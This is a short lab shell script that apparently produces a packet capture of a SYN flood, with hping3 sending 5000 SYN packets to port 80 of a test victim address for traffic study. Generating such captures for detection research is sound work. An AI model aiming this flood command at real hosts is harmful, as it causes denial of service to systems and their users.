#!/bin/sh
# Newly opened connections: hping3 sends 5000 SYN packets from one source to port 80 of the victim, at most ten each millisecond.
#
#     newly_opened.sh CAPTURE

. "$(dirname "$0")/lab.sh"

attack() { on_attacker hping3 -q -S -p 80 -i u100 -c 5000 10.77.0.2; }

make_capture "$1"
